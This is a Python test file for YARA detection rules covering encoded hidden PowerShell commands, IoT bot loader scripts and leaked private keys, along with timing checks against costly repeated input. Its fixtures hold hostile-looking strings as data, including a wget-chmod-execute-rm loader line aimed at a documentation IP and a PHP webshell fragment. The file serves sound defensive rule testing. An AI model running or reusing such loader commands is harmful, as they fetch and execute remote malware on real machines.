"""What the starter rules in YARA find, what they nearly find, and that hostile repetition costs them little.

Cost is compared with that of harmless bytes, in processor time of this process: a busy machine slows both.
"""

from __future__ import annotations

import time
from typing import Any

import pytest
import yara

from tests.shared import ROOT

BASE = ROOT / "rules" / "base"
SIZE = 1 << 16
DEAREST = 200
"""Times the cost of harmless bytes. A regex with a gap of a hundred bytes costs 700 to 1,000 times as much."""

COMMAND = b"QQBBAAAA" * 10
BOT = b"wget http://192.0.2.7/b/%s; chmod 777 %s; ./%s; rm -rf %s\n"


@pytest.fixture(scope="module")
def compiled() -> Any:
    return yara.compile(filepaths={path.stem: str(path) for path in sorted(BASE.glob("*.yar"))})


def bots(*names: bytes) -> bytes:
    return b"".join(BOT % (name, name, name, name) for name in names)


def names_in(compiled: Any, data: bytes) -> set[str]:
    return {match.rule for match in compiled.match(data=data, fast=True)}


POWERSHELL, LOADER, KEY = "PowerShell_Encoded_Command", "Bot_Loader_Shell_Script", "Private_Key_In_Response"


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        (POWERSHELL, b"powershell -nop -w hidden -enc " + COMMAND),
        (POWERSHELL, b"x" * 500 + b"PowerShell.EXE    -W Hidden -EncodedCommand '" + COMMAND),
        (POWERSHELL, b"powershell " + b"a" * 100 + b" -nop -e " + COMMAND),
        (POWERSHELL, b"-nop -e " + COMMAND + b"x" * 200 + b"powershell -e " + COMMAND),
        (POWERSHELL, b"powershell" + b" " * 200 + (b"-nop -e " + COMMAND + b"x" * 200) * 33),
        (LOADER, bots(b"m.mips", b"m.arm7", b"m.x86")),
        (LOADER, bots(b"b/mipsel", b"b/sh4", b"b/ppc").replace(b"; ./", b" ;./").replace(b"777", b"+x")),
        (LOADER, bots(b"m.mips", b"m.arm7", b"m.x86").replace(b"777 m", b"777 * m")),
        (KEY, b"-----BEGIN RSA PRIVATE KEY-----\r\n" + b"A" * 64 + b"\r\n"),
        (KEY, b"key:\n-----BEGIN PRIVATE KEY-----\n" + b"A" * 64 + b"\n"),
    ],
)
def test_what_they_find(compiled: Any, rule: str, data: bytes) -> None:
    assert rule in names_in(compiled, data)


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        (POWERSHELL, b"powershell -enc " + COMMAND),  # neither hidden nor without a profile
        (POWERSHELL, b"powershell -nop -enc " + COMMAND[:72]),  # too short
        (POWERSHELL, b"powershell -nop -enc " + b"QUJDREVG" * 20),  # no text of UTF-16
        (POWERSHELL, b"powershell " + b"a" * 130 + b" -nop -e " + COMMAND),  # of something else
        (POWERSHELL, b"-nop -e " + COMMAND + b" powershell"),
        (LOADER, bots(b"m.mips", b"m.arm7")),
        (LOADER, bots(b"m.mips", b"m.arm7", b"m.x86").replace(b"rm -rf", b"ls")),
        (LOADER, bots(b"tea", b"coffee", b"milk")),
        (LOADER, bots(b"m.mips", b"m.arm7", b"m.x86").replace(b"; ./", b" && echo ")),
        (KEY, b"-----BEGIN PUBLIC KEY-----\n" + b"A" * 64 + b"\n"),
        (KEY, b"x" * 600 + b"-----BEGIN PRIVATE KEY-----\n" + b"A" * 64 + b"\n"),
    ],
)
def test_what_they_nearly_find(compiled: Any, rule: str, data: bytes) -> None:
    assert rule not in names_in(compiled, data)


def cpu_s(compiled: Any, data: bytes) -> float:
    """Return the least processor time of some runs."""
    times = []
    for _ in range(3):
        began = time.process_time()
        compiled.match(data=data, fast=True)
        times.append(time.process_time() - began)
    return min(times)


@pytest.fixture(scope="module")
def harmless_s(compiled: Any) -> float:
    return cpu_s(compiled, (bytes(range(256)) * 16 * (SIZE // 4096)))


@pytest.mark.parametrize(
    "repeated",
    [
        b"powershell ", b"powershell -e ", b"powershell    -e    AAAAAAAA", b"-e ", b"-enc " + COMMAND[:79] + b"!",
        b"powershell -w hidden -e " + COMMAND, b"wget ", b"wget http://", b"chmod 777 ", b"chmod +x a;./", b"rm -rf ",
        b"-----", b"-----BEGIN ", b"eval(", b"system(        @$_GET        ", b"AKIA", b"SecretAccessKey=",
        b"org.apache.commons.collections.", b"UPX!", b"\0\1", b'"type":', b"MSXML2.",
        b'"UEsDB', b'"TVqQ' + b"A" * 48, bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac"),
        b"p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0",
    ],
)  # fmt: skip
def test_repetition_costs_little(compiled: Any, harmless_s: float, repeated: bytes) -> None:
    cost = cpu_s(compiled, (repeated * (SIZE // len(repeated) + 1))[:SIZE])
    assert cost < DEAREST * harmless_s, f"{cost / harmless_s:.0f} times as much as harmless bytes"


def test_the_gap_is_not_measured_more_often_than_is_bounded(compiled: Any, harmless_s: float) -> None:
    """Many beginnings and many commands: their product would be millions."""
    data = b"-w hidden " + b"powershell" * (SIZE // 20) + b" " * 200 + (b"-e " + COMMAND + b" ") * (SIZE // 170)
    assert cpu_s(compiled, data) < DEAREST * harmless_s
